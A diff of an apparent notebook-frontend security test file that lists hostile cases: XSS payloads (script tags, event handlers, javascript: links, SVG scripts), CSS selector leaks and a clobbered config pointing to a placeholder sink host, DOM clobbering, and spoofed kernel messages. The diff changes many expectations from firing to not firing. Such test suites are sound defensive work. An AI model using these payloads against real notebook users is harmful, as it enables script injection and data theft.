@@ -28,7 +28,6 @@ class Hostile:
     code: str
     fires: bool = False
     leaves: bool = False
-    fires_in_a_file: bool = True
 
     def cell(self, *, port: int, udp_port: int) -> str:
         """The code, for the ports of this run."""
@@ -98,7 +97,7 @@ SCRIPTS = [
     ),
     _html("script-after-junk", f"<<<a '\"><script>{HIT}</script>", fires=True),
     _html("script-nul", f"<scr\x00ipt>{HIT}</scr\x00ipt><img src=x\x00 onerror={HIT}>"),
-    _html("script-in-list", [f"<script>{HIT}", "</script>"], fires=True),  # type: ignore[arg-type]
+    _html("script-in-list", [f"<script>{HIT}", "</script>"]),  # type: ignore[arg-type]
     Hostile(
         "html-magic",
         f'get_ipython().run_cell_magic(\'html\', \'\', """<script>{HIT}</script>""")',
@@ -123,7 +122,7 @@ HANDLERS = [
     for tag, event, extra, fires in (
         ("img", "error", "src=data:,", True),
         ("img", "load", f"src='data:image/gif;base64,{'R0lGODlhAQABAAAAACwAAAAAAQABAAA='}'", True),
-        ("svg", "load", "", True),
+        ("svg", "load", "", False),
         ("body", "load", "", False),
         ("video", "error", "src=data:, autoplay", True),
         ("audio", "error", "src=data:,", True),
@@ -131,10 +130,10 @@ HANDLERS = [
         ("details", "toggle", "open", True),
         ("style", "load", "", True),
         ("iframe", "load", "", True),
-        ("object", "error", "data=x:x", True),
+        ("object", "error", "data=x:x", False),
         ("marquee", "start", "", False),
         ("button", "click", "", True),
-        ("div", "pointerover", "style='width:99px;height:99px;background:red'", True),
+        ("div", "pointerover", "style='width:99px;height:99px;background:red'", False),
         ("select", "focus", "autofocus", True),
         ("dialog", "close", "open", False),
         ("form", "submit", "", False),
@@ -153,7 +152,7 @@ HANDLERS += [
         f"<b style='transition:color 1s' tabindex=1 onfocus={HIT}>x</b>",
         fires=True,
     ),
-    _html("attribute-without-space", f"<img/src=data:,/onerror={HIT}>", fires=True),
+    _html("attribute-without-space", f"<img/src=data:,/onerror={HIT}>"),
     _html("attribute-newline", f"<img\nsrc=data:,\nonerror\n=\n{HIT}>", fires=True),
     _html("attribute-entity", "<img src=data:, onerror=&#x68;it(&apos;@ID&apos;)>", fires=True),
     _html("attribute-breakout", f"<p title='\"><img src=data:, onerror={HIT}>'>x</p>"),
@@ -222,7 +221,6 @@ MIME_TYPES = [
         "isolated-svg",
         {"image/svg+xml": f"{_SVG}><script>{HIT}</script></svg>"},
         {"isolated": True, "image/svg+xml": {"isolated": True}},
-        fires=True,
     ),
     _bundle(
         "metadata-trusted",
@@ -251,7 +249,6 @@ MIME_TYPES = [
         "next-input-replaced",
         "get_ipython().payload_manager.write_payload({'source': 'set_next_input', 'text':"
         " 'import os # canary-@ID', 'replace': True})",
-        fires=True,
     ),
     Hostile(
         "ask-exit",
@@ -267,9 +264,9 @@ URLS = [
     _html("protocol-relative", "<img src='//@HOST/@ID/image'>", fires=True),
     _html("backslash-url", "<img src='\\\\@HOST/@ID/image'>"),
     _html("picture-source", "<picture><source srcset='@SINK/source'><img></picture>", fires=True),
-    _html("javascript-link", f'<a href="javascript:{HIT}">click</a>', fires=True),
-    _html("javascript-link-tab", f'<a href="java\tscript\n:{HIT}">click</a>', fires=True),
-    _html("javascript-entity", '<a href="&#106;avascript&colon;hit(`@ID`)">click</a>', fires=True),
+    _html("javascript-link", f'<a href="javascript:{HIT}">click</a>'),
+    _html("javascript-link-tab", f'<a href="java\tscript\n:{HIT}">click</a>'),
+    _html("javascript-entity", '<a href="&#106;avascript&colon;hit(`@ID`)">click</a>'),
     _html("javascript-xlink", f'{_SVG}><a xlink:href="javascript:{HIT}"><text>x</text></a></svg>'),
     _html("javascript-area", f'<map name=m><area href="javascript:{HIT}" shape=default></map>'),
     _html("javascript-frame", f'<iframe src="javascript:{HIT}"></iframe>', fires=True),
@@ -332,7 +329,6 @@ STYLES = [
         "style-selector",
         "<style>input[value^='']{background:url(@SINK/input)}"
         " body{background-image:url(@SINK/body)}</style><input value=secret>",
-        fires=True,
     ),
     _html(
         "style-font",
@@ -362,14 +358,13 @@ STYLES = [
     _html(
         "hide-lab",
         "<style>#jp-top-panel,body{display:none!important}:root{--canary-@ID:1}</style>",
-        fires=True,
     ),
     _html("style-breakout", f"<b style='x:&quot;}}</style><script>{HIT}</script>'>x</b>"),
 ]
 
 SVGS = [
     _html("svg-script", f"{_SVG}><script>{HIT}</script></svg>", fires=True),
-    _html("svg-script-href", f"{_SVG}><script href='@SINK/x.js'/></svg>", fires=True),
+    _html("svg-script-href", f"{_SVG}><script href='@SINK/x.js'/></svg>"),
     Hostile(
         "svg-display",
         "from IPython.display import SVG\n"
@@ -473,7 +468,6 @@ CONFUSIONS = [
         "nested-forms",
         "<form id=a><div></form><form id=b><math><mtext></form><form><mglyph>"
         f"<style></math><img src=data:, onerror={HIT}>",
-        fires=True,
     ),
     _html(
         "plaintext",
@@ -489,19 +483,16 @@ CONFUSIONS = [
     _html(
         "clobber-id",
         "<img id=clobber-@ID name=clobber-@ID><form id=jupyterlab><input name=x>",
-        fires=True,
     ),
     _html(
         "clobber-body",
         "<img name=body><img name=querySelector><img name=getElementById>"
         "<form name=documentElement><input name=style id=clobber-@ID></form>",
-        fires=True,
     ),
     _html(
         "clobber-config",
         "<script id=jupyter-config-data type=application/json>"
         '{"baseUrl":"@SINK/"}</script><a id=clobber-@ID>x</a>',
-        fires=True,
     ),
     _html("attribute-frame", "\"></iframe><script>hit('@ID')</script>", fires=True),
     _html(
@@ -561,7 +552,7 @@ COMMANDS = [
 
 MARKDOWN = [
     _markdown("markdown-script", f"# Hello\n\n<script>{HIT}</script>", fires=True),
-    _markdown("markdown-onerror", f"text <img src=data:, onerror={HIT}> text", fires=True),
+    _markdown("markdown-onerror", f"text <img src=data:, onerror={HIT}> text"),
     _markdown("markdown-javascript", f"[click](javascript:{HIT})"),
     _markdown("markdown-data", f"[click](data:text/html,<script>{HIT}</script>)"),
     _markdown("markdown-image", "![x](@SINK/image.png) ![y](canary-@ID.png)", fires=True),
@@ -593,7 +584,7 @@ LATEX = [
         (
             "html",
             f"$x$ <img src=data:, onerror={HIT}> $\\text{{<img src=data:, onerror={HIT}>}}$",
-            True,
+            False,
         ),
         ("unicode", "$\\unicode[q;background:url(@SINK/bg)]{65}$", False),
         ("require", "$\\require{html}\\require{action}\\texttip{x}{<script>}$", False),
@@ -745,7 +736,7 @@ TEXTS = [
         " https://x/<script>')",
     ),
     Hostile("text-bidi", "print('\\u202e\\u2066 evil \\u2069')"),
-    Hostile("text-huge", "print('x' * 12_000_000)"),
+    Hostile("text-huge", "print('x' * 4_000_000)"),
     Hostile(
         "text-many",
         "import sys\nfor n in range(20_000): print(n, file=sys.stderr if n % 2 else sys.stdout)",
@@ -846,14 +837,12 @@ MESSAGES = [
         "k.send_response(k.iopub_socket, 'clear_output', {'wait': 'x'})\n"
         f'k.send_response(k.iopub_socket, "display_data", {{"data": {{"text/html":'
         f' "<script>{HIT}</script>"}}, "metadata": {{}}, "transient": {{"display_id": {{}}}}}})',
-        fires=True,
     ),
     Hostile(
         "stolen-result",
         "k = get_ipython().kernel\nk.send_response(k.iopub_socket, 'execute_result',"
         ' {"execution_count": "<b>", "metadata": {},'
         f' "data": {{"text/html": "<script>{HIT}</script>"}}}})',
-        fires=True,
     ),
     Hostile(
         "cleared-output",
